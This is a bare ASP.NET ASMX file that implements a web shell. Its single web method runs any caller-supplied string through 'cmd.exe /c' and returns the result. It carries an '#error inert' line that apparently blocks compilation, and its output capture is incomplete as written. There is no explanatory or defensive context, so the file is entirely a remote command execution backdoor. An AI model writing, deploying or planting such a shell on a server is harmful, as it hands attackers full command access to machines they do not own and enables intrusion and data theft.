<%@ WebService Language="C#" Class="S" %>
#error inert
using System.Web.Services; public class S : WebService { [WebMethod] public string Do(string input) { var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + input); return p.StandardOutput.ReadToEnd(); } }